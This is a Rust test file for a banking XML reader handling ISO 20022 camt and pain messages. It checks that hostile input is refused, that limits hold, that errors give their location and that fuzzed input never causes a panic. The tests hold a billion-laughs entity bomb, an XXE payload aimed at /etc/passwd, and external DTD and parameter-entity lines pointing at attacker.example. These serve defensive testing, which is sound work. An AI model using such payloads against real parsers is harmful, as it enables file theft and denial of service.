//! Hostile and broken input: entity attacks are refused before anything is
//! expanded or fetched, limits hold, errors say where, and no input makes a
//! reader panic.

use std::path::{Path, PathBuf};

use bank_adapters::error::ReadError;
use bank_adapters::iso20022::{message_of, read_cash_message, read_status_report};
use bank_adapters::xml::{Limits, Node, XmlReader};
use proptest::prelude::*;

const CAMT_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">
  <BkToCstmrStmt>
    <GrpHdr><MsgId>M1</MsgId><CreDtTm>2026-11-05T16:00:00+08:00</CreDtTm></GrpHdr>
    <Stmt>
      <Id>S1</Id>
      <Acct><Id><Othr><Id>0200001019200099999</Id></Othr></Id></Acct>
"#;
const CAMT_TAIL: &str = "    </Stmt>\n  </BkToCstmrStmt>\n</Document>\n";

fn camt(body: &str) -> String {
    format!("{CAMT_HEAD}{body}{CAMT_TAIL}")
}

const ENTRY: &str = r#"      <Ntry>
        <Amt Ccy="CNY">4850.00</Amt>
        <CdtDbtInd>DBIT</CdtDbtInd>
        <Sts>BOOK</Sts>
        <BkTxCd/>
      </Ntry>
"#;

fn all_readers(xml: &[u8]) -> [Result<(), ReadError>; 4] {
    let mut walk = XmlReader::new(xml);
    let walked = loop {
        match walk.next() {
            Ok(Node::Eof) => break Ok(()),
            Ok(_) => {}
            Err(e) => break Err(e),
        }
    };
    [
        walked,
        read_cash_message(xml).map(|_| ()),
        read_status_report(xml).map(|_| ()),
        message_of(xml).map(|_| ()),
    ]
}

fn assert_refused(xml: &str) {
    for result in all_readers(xml.as_bytes()) {
        assert!(
            matches!(result, Err(ReadError::Refused { .. })),
            "expected Refused, got {result:?}"
        );
    }
}

#[test]
fn billion_laughs_is_refused() {
    let xml = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document><BkToCstmrStmt><GrpHdr><MsgId>&lol9;</MsgId></GrpHdr></BkToCstmrStmt></Document>"#;
    assert_refused(xml);
}

#[test]
fn external_entities_are_refused() {
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document><CstmrPmtStsRpt><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>"#;
    assert_refused(xxe);
    let external_dtd = r#"<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document/>"#;
    assert_refused(external_dtd);
    let parameter_entity =
        r#"<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><d/>"#;
    assert_refused(parameter_entity);
}

#[test]
fn undeclared_entity_is_refused_and_located() {
    let xml = camt(&ENTRY.replace("4850.00", "&amount;"));
    let error = read_cash_message(xml.as_bytes()).expect_err("refused");
    match error {
        ReadError::Refused { position, message } => {
            assert_eq!(position.line, 9, "{message}");
            assert!(position.path.ends_with("/Ntry/Amt"), "{}", position.path);
            assert!(message.contains("amount"));
        }
        other => panic!("expected Refused, got {other:?}"),
    }
    // The five predefined entities and character references are fine.
    let xml = camt(&ENTRY.replace(
        "<BkTxCd/>",
        "<BkTxCd/><AddtlNtryInf>&lt;&gt;&amp;&apos;&quot;&#x5DE5;&#36164;</AddtlNtryInf>",
    ));
    let message = read_cash_message(xml.as_bytes()).expect("reads");
    assert_eq!(
        message.statements[0].entries[0].additional_info.as_deref(),
        Some("<>&'\"工资")
    );
}

#[test]
fn deep_nesting_hits_the_depth_limit() {
    let depth = 100_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    // (`message_of` stops at the root start tag, so it has nothing to refuse.)
    let [walked, cash, status, _] = all_readers(xml.as_bytes());
    for result in [walked, cash, status] {
        match result {
            Err(ReadError::Limit { position, .. }) => {
                assert!(position.path.matches('/').count() <= Limits::default().max_depth)
            }
            other => panic!("expected Limit, got {other:?}"),
        }
    }
}

#[test]
fn an_endless_text_node_hits_the_text_limit() {
    let huge = "9".repeat(3 << 20);
    let xml = camt(&ENTRY.replace("4850.00", &huge));
    assert!(matches!(
        read_cash_message(xml.as_bytes()),
        Err(ReadError::Limit { .. })
    ));
    // Also when the text never ends at all: the reader stops early, it does
    // not buffer the rest of the stream.
    let endless = std::io::Read::chain(CAMT_HEAD.as_bytes(), std::io::repeat(b'x'));
    let result = read_cash_message(std::io::BufReader::new(endless));
    assert!(matches!(result, Err(ReadError::Limit { .. })), "{result:?}");
}

#[test]
fn file_size_limit_applies_when_set() {
    let xml = camt(&ENTRY.repeat(100));
    let limits = Limits {
        max_file_size: Some(1000),
        ..Limits::default()
    };
    let mut reader = XmlReader::with_limits(xml.as_bytes(), limits);
    let result = loop {
        match reader.next() {
            Ok(Node::Eof) => break Ok(()),
            Ok(_) => {}
            Err(e) => break Err(e),
        }
    };
    assert!(matches!(result, Err(ReadError::Limit { .. })), "{result:?}");
}

fn samples_dir() -> PathBuf {
    let shared = std::env::var_os("WAGEBRIDGE_SHARED_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared"));
    shared.join("iso20022/samples")
}

fn sample_bytes() -> Vec<Vec<u8>> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(samples_dir())
        .expect("samples")
        .map(|e| e.expect("entry").path())
        .collect();
    paths.sort();
    paths
        .iter()
        .map(|p| std::fs::read(p).expect("sample reads"))
        .collect()
}

#[test]
fn truncated_files_fail_with_a_line_number() {
    let statement =
        std::fs::read(samples_dir().join("camt.053.001.02__moov__FI_camt_053_sample.xml"))
            .expect("sample");
    for cut in [
        statement.len() / 3,
        statement.len() / 2,
        statement.len() - 20,
    ] {
        let part = &statement[..cut];
        let last_line = part.iter().filter(|&&b| b == b'\n').count() as u64 + 1;
        match read_cash_message(part) {
            Err(ReadError::Malformed { position, .. }) => {
                assert!(
                    position.line >= 1 && position.line <= last_line,
                    "line {} outside 1..={last_line}",
                    position.line
                );
                assert!(
                    position.line + 30 >= last_line,
                    "error far from the cut: {position}"
                );
            }
            other => panic!("expected Malformed for a cut at {cut}, got {other:?}"),
        }
    }
}

#[test]
fn invalid_values_name_their_place() {
    let xml = camt(&ENTRY.replace("4850.00", "4850,00"));
    match read_cash_message(xml.as_bytes()) {
        Err(ReadError::Invalid { position, message }) => {
            assert_eq!(position.line, 9);
            assert!(
                position.path.ends_with("/Stmt/Ntry/Amt"),
                "{}",
                position.path
            );
            assert!(message.contains("4850,00"));
        }
        other => panic!("expected Invalid, got {other:?}"),
    }
    let xml = camt(&ENTRY.replace("        <Amt Ccy=\"CNY\">4850.00</Amt>\n", ""));
    assert!(matches!(
        read_cash_message(xml.as_bytes()),
        Err(ReadError::Invalid { message, .. }) if message.contains("Amt")
    ));
    let xml = camt(&ENTRY.replace("DBIT", "MINUS"));
    assert!(matches!(
        read_cash_message(xml.as_bytes()),
        Err(ReadError::Invalid { .. })
    ));
}

#[test]
fn the_wrong_message_is_an_unknown_format() {
    let samples = samples_dir();
    let pain002 = std::fs::read(samples.join("pain.002.001.03__oca__test-sepa-pain-unpaid.xml"))
        .expect("sample");
    assert!(matches!(
        read_cash_message(pain002.as_slice()),
        Err(ReadError::UnknownFormat(_))
    ));
    let camt =
        std::fs::read(samples.join("camt.053.001.08__genkgo__camt053.v8.xml")).expect("sample");
    assert!(matches!(
        read_status_report(camt.as_slice()),
        Err(ReadError::UnknownFormat(_))
    ));
    assert!(matches!(
        read_cash_message(&b"<html><body/></html>"[..]),
        Err(ReadError::UnknownFormat(_))
    ));
}

#[test]
fn bytes_that_are_not_utf8_are_malformed() {
    let xml = camt(&ENTRY.replace("<BkTxCd/>", "<BkTxCd/><AddtlNtryInf>XX</AddtlNtryInf>"));
    let mut bytes = xml.into_bytes();
    let at = bytes.windows(2).position(|w| w == b"XX").expect("marker");
    bytes[at] = 0xB9; // GBK lead byte
    bytes[at + 1] = 0xA4;
    assert!(matches!(
        read_cash_message(bytes.as_slice()),
        Err(ReadError::Malformed { .. })
    ));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn garbage_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        let _ = all_readers(&bytes);
    }

    #[test]
    fn xmlish_garbage_never_panics(text in "[<>/a-zA-Z&;#x0-9 =\"'!\\[\\]?-]{0,400}") {
        let _ = all_readers(text.as_bytes());
    }

    /// Real files, damaged: cut short, bytes replaced, a slice removed.
    #[test]
    fn damaged_samples_never_panic(
        which in 0usize..64,
        cut in any::<prop::sample::Index>(),
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..8),
        hole in any::<(prop::sample::Index, u8)>(),
    ) {
        let samples = sample_bytes();
        let mut bytes = samples[which % samples.len()].clone();
        for (at, value) in flips {
            let at = at.index(bytes.len());
            bytes[at] = value;
        }
        let start = hole.0.index(bytes.len());
        let end = (start + usize::from(hole.1)).min(bytes.len());
        bytes.drain(start..end);
        let keep = cut.index(bytes.len() + 1);
        bytes.truncate(keep);
        let _ = all_readers(&bytes);
    }
}
